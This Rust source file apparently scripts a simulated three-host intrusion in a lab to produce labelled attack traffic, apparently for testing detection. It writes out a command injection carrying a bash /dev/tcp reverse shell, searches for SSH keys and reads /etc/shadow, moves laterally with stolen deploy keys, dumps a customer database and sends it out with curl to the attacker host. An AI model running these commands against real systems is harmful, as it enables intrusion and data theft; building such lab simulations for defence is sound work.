//! From a hole in the web server over two stolen keys to the database, and back out with its dump. Three hosts.
//!
//! Hard because: administrators log in to the same hosts by ssh all the time, and a backup is fetched from the database by the
//! same programs; the shell calls back to the port of https.

use crate::Lab;
use crate::life::remote::{make_key, ssh};
use crate::life::{backup, host_tasks, remote, web};
use crate::network::get;
use crate::program::user;
use crate::shell::Listener;
use anyhow::{Result, ensure};
use std::time::Duration;

pub fn run(lab: &mut Lab) -> Result<()> {
    let (web_host, app, db) = (lab.host("web-1")?, lab.host("app-1")?, lab.host("db-1")?);
    let (internet, admin, attacker) = (lab.outsider("visitors")?, lab.outsider("admin")?, lab.outsider("attacker")?);
    for host in [&web_host, &app, &db] {
        remote::serve(host)?;
        host_tasks::start(lab, host)?;
    }
    web::serve(&web_host)?;
    web::visit(lab, &internet, &web_host)?;
    remote::work(lab, &admin, &app, "alice")?;
    backup::prepare(&app, &db)?;
    db.put("/srv/customers/customers.sql", &"INSERT INTO customers VALUES ('Somebody');\n".repeat(3000), 0o644)?;
    // The keys that were left lying about.
    make_key(&web_host, "/var/www/.ssh/deploy", user::WWW_DATA, &[(&app, "/home/deploy", user::DEPLOY)])?;
    make_key(&app, "/home/deploy/.ssh/database", user::DEPLOY, &[(&db, "/home/deploy", user::DEPLOY)])?;
    for _ in lab.rounds(1) {
        lab.wait(12..20);
        backup::once(lab, &app, &db, "/srv/customers")?;
        let hours = lab.number(2..7);
        lab.pause(Duration::from_secs(3600 * u64::from(hours)));
    }
    lab.wait(8..12);

    let attack = lab.attack("stolen keys to lateral movement over three hosts")?;
    let step = attack.step("a shell calls back", &["T1190", "T1059.004", "T1071.001"]);
    step.remote(&web_host, &attacker);
    let listener = Listener::new(&attacker, 443)?;
    let to = attacker.address;
    let call = format!("{} setsid bash -c \"bash -i <>/dev/tcp/{to}/443 >&0 2>&0 &\"", step.mark(&web_host)?);
    get(&attacker, web_host.address, 80, &format!("/cgi-bin/lookup.cgi?host=localhost;{call}"))?;
    let mut shell = listener.accept()?;
    shell.say("id; pwd")?;
    drop(step);
    lab.wait(2..5);

    let step = attack.step("keys are looked for", &["T1083", "T1552.004", "T1018"]);
    shell.begin(&step, &web_host)?;
    let found = shell.say("find / -xdev -name 'deploy*' -path '*.ssh*' 2>/dev/null; cat /etc/hosts")?;
    ensure!(found.contains("/var/www/.ssh/deploy"), "the key was not found: {found}");
    let look =
        *lab.pick(&["cat /var/www/.ssh/deploy | wc -c", "head -1 /var/www/.ssh/deploy", "file /var/www/.ssh/deploy"]);
    shell.say(look)?;
    drop(step);
    lab.wait(3..6);

    let step = attack.step("to the second host", &["T1021.004", "T1078.003", "T1552.004"]);
    shell.begin(&step, &web_host)?;
    let look = format!("{} id; ls -la ~/.ssh; sudo -n cat /etc/shadow | wc -l", step.mark(&app)?);
    let said = shell.say(&ssh("/var/www/.ssh/deploy", "deploy", &app, &look))?;
    ensure!(said.contains("database"), "the second host was not reached: {said}");
    drop(step);
    lab.wait(3..6);

    let dump = format!("/tmp/{}.gz", lab.word(7));
    let step = attack.step("to the third host, and its customers", &["T1021.004", "T1005", "T1560.001"]);
    shell.begin(&step, &web_host)?;
    step.file(&db, &dump);
    let pack = format!("{} gzip -c /srv/customers/customers.sql > {dump}; ls -l {dump}", step.mark(&db)?);
    let inner = ssh("/home/deploy/.ssh/database", "deploy", &db, &pack);
    let said = shell.say(&ssh("/var/www/.ssh/deploy", "deploy", &app, &format!("{} {inner}", step.mark(&app)?)))?;
    ensure!(said.contains(&dump), "the third host was not reached: {said}");
    drop(step);
    lab.wait(2..5);

    let loot = format!("/tmp/.{}", lab.word(5));
    let step = attack.step("the dump is brought to the web server", &["T1570", "T1074.002"]);
    shell.begin(&step, &web_host)?;
    step.file(&web_host, &loot);
    let fetch = format!("{} cat {dump}; rm {dump}", step.mark(&db)?);
    let inner = ssh("/home/deploy/.ssh/database", "deploy", &db, &fetch);
    let outer = ssh("/var/www/.ssh/deploy", "deploy", &app, &format!("{} {inner}", step.mark(&app)?));
    let said = shell.say(&format!("{outer} > {loot}; ls -l {loot}"))?;
    ensure!(said.contains(&loot), "the dump did not come: {said}");
    drop(step);
    lab.wait(2..5);

    let step = attack.step("and taken away", &["T1041", "T1070.004"]);
    shell.begin(&step, &web_host)?;
    step.remote(&web_host, &attacker);
    web::take_upload(&attacker)?;
    shell.say(&format!("curl -s -T {loot} http://{to}/; rm {loot}"))?;
    shell.leave()?;
    drop(step);
    lab.wait(8..14);
    Ok(())
}
